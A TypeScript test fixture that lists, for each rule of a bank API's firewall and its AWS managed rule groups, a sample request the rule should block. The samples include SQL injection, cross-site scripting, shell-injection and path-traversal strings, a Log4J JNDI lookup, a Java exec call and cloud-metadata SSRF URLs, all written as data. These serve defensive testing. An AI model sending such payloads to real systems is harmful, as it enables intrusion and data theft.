import type { InspectedRequest } from '../../lib/local/firewall/index.ts';
import { asBody, asHeader, asQuery } from './bank-firewall.ts';
import { harmless, listedAddresses } from './firewall-of.ts';

/** A request that one rule refuses. */
export interface Witness {
  readonly request: Partial<InspectedRequest>;
  /** How often it is sent until it is refused. @default 1 */
  readonly times?: number;
  /** Whether each comes from another address. @default false */
  readonly rotates?: boolean;
  /** Whether other rules refuse it as well: an attack is often seen by several. @default false */
  readonly isSeenByOthers?: true;
}

const seen = (request: Partial<InspectedRequest>): Witness => ({ request, isSeenByOthers: true });
const sent = (name: string, value: string) => seen(asHeader(name, value));
const asked = (value: string) => seen(asQuery(value));
const told = (value: string) => seen(asBody({ text: value }));
/** Such a path, or method, is in no contract. */
const at = (uriPath: string, more: Partial<InspectedRequest> = {}) => seen({ uriPath, ...more });
const post = (uriPath: string, more: Partial<InspectedRequest> = {}) => ({ method: 'POST', uriPath, ...more });

const sql = "' or name() = 'x";
const script = 'top["al"+"ert"](1)';
const shell = '; cat /etc/hosts';
const java = '(java.lang.Runtime).getRuntime().exec("whoami")';
const lookup = '${jndi:ldap://x.example/a}';
const metadata = 'http://169.254.169.254/latest/meta-data/';
const remote = 'http://203.0.113.9/a';

const common = (rules: Readonly<Record<string, Witness>>) => inGroup('AWSManagedRulesCommonRuleSet', rules);
const inGroup = (group: string, rules: Readonly<Record<string, Witness>>) =>
  Object.fromEntries(Object.entries(rules).map(([rule, witness]) => [`${group}#${rule}`, witness]));

/** By rule of the bank, and by rule of a managed group of the bank. */
export const witnesses: Readonly<Record<string, Witness>> = {
  BodySize: seen(asBody('a'.repeat(70_000))),
  AddressRate: { request: { uriPath: '/health' }, times: 5_001 },
  KeyRate: { request: asHeader('X-API-Key', 'pcl_live_1'), times: 5_001, rotates: true },
  KeylessRate: { request: { uriPath: '/rates' }, times: 101 },
  CredentialRate: { request: asHeader('Authorization', 'Bearer 1'), times: 5_001, rotates: true },
  GuardPublic: { request: post('/secret-scanning/alerts'), times: 101 },
  GuardOneTimeCode: { request: post('/otp/challenges'), times: 101 },
  GuardCredential: { request: post('/api-keys/abcdefABCDEF/rotate'), times: 101 },
  GuardMoney: { request: post('/transfers'), times: 1_001 },
  Guarded100AddressRate: { request: post('/otp/challenges/1/verify'), times: 101 },
  Guarded100CredentialRate: {
    request: post('/otp/challenges', asHeader('Authorization', 'Bearer 1')),
    times: 101,
    rotates: true,
  },
  Guarded10000TotalRate: { request: post('/credentials'), times: 10_001, rotates: true },
  Guarded1000AddressRate: { request: post('/payees'), times: 1_001 },
  Guarded1000CredentialRate: {
    request: post('/transfers', asHeader('Authorization', 'Bearer 1')),
    times: 1_001,
    rotates: true,
  },
  Guarded30000TotalRate: { request: post('/otp/challenges'), times: 30_001, rotates: true },
  UndeclaredRoute: { request: { uriPath: '/admin' } },
  HeaderSize: { request: asHeader('X-Padding', 'a'.repeat(5_000)) },
  MediaType: {
    request: asBody('{}', { headers: [...harmless.headers, ['Content-Type', 'application/xml']] }),
  },
  EndpointBodySize: { request: asBody({ name: 'a'.repeat(1_100) }, { uriPath: '/accounts' }) },
  QueryShape: { request: { queryString: 'limit=%3C' } },
  HeaderShape: { request: asHeader('One-Time-Proof', 'a,b') },
  ...inGroup(
    'AWSManagedRulesAmazonIpReputationList',
    Object.fromEntries(Object.entries(listedAddresses).map(([rule, clientIp]) => [rule, { request: { clientIp } }])),
  ),
  ...common({
    NoUserAgent_HEADER: { request: asHeader('User-Agent', '') },
    UserAgent_BadBots_HEADER: sent('User-Agent', 'nessus'),
    SizeRestrictions_QUERYSTRING: { request: { queryString: `q=${'a'.repeat(2_100)}` } },
    SizeRestrictions_Cookie_HEADER: sent('Cookie', `a=${'a'.repeat(10_300)}`),
    SizeRestrictions_URIPATH: at(`/${'a'.repeat(1_100)}`),
    EC2MetaDataSSRF_BODY: told(metadata),
    EC2MetaDataSSRF_COOKIE: sent('Cookie', `a=${metadata}`),
    EC2MetaDataSSRF_URIPATH: at(`/${metadata}`),
    EC2MetaDataSSRF_QUERYARGUMENTS: asked(metadata),
    GenericLFI_URIPATH: at('/a/../../../etc/hosts'),
    GenericRFI_QUERYARGUMENTS: asked(remote),
    GenericRFI_BODY: told(remote),
    GenericRFI_URIPATH: at(`/${remote}`),
    CrossSiteScripting_COOKIE: sent('Cookie', 'a=<script>f()</script>'),
    CrossSiteScripting_URIPATH: at('/<script>f()</script>'),
  }),
  ...inGroup('AWSManagedRulesKnownBadInputsRuleSet', {
    JavaDeserializationRCE_HEADER: sent('Referer', java),
    JavaDeserializationRCE_BODY: told(java),
    JavaDeserializationRCE_URIPATH: at(`/${java}`),
    JavaDeserializationRCE_QUERYSTRING: asked(java),
    Host_localhost_HEADER: { request: asHeader('Host', 'localhost') },
    PROPFIND_METHOD: at('/accounts', { method: 'PROPFIND' }),
    ExploitablePaths_URIPATH: at('/web-inf/web.xml'),
    Log4JRCE_HEADER: sent('Referer', lookup),
    Log4JRCE_QUERYSTRING: asked(lookup),
    Log4JRCE_BODY: told(lookup),
    Log4JRCE_URIPATH: at(`/${lookup}`),
  }),
  ...inGroup('AWSManagedRulesSQLiRuleSet', {
    SQLi_COOKIE: sent('Cookie', "a=1' UNION SELECT password FROM users--"),
    SQLi_URIPATH: at("/1' UNION SELECT password FROM users--"),
    SQLiExtendedPatterns_HEADER: sent('Referer', '1; waitfor delay 9'),
    SQLiExtendedPatterns_URIPATH: at('/1; waitfor delay 9'),
  }),
  SqlConfirmed: asked("1' OR '1'='1' --"),
  ScriptConfirmed: asked('<script>alert(1)</script>'),
  PathConfirmed: asked('../../../etc/hosts'),
  SqlInQuery: asked(sql),
  ScriptInQuery: asked(script),
  ShellInQuery: asked(shell),
  SqlInBody: told(sql),
  ScriptInBody: told(script),
  ShellInBody: told(shell),
  SqlInHeader: sent('Referer', sql),
  ScriptInHeader: sent('Referer', script),
  ShellInHeader: sent('Referer', shell),
};

/** Rules that no request on this machine can run into, each with the reason. */
export const unprovable: Readonly<Record<string, string>> = {
  'AWSManagedRulesAmazonIpReputationList#AWSManagedIPDDoSList': 'it only counts, at AWS as well',
  'AWSManagedRulesKnownBadInputsRuleSet#ReactJSRCE_BODY': 'AWS does not say what it looks for',
};
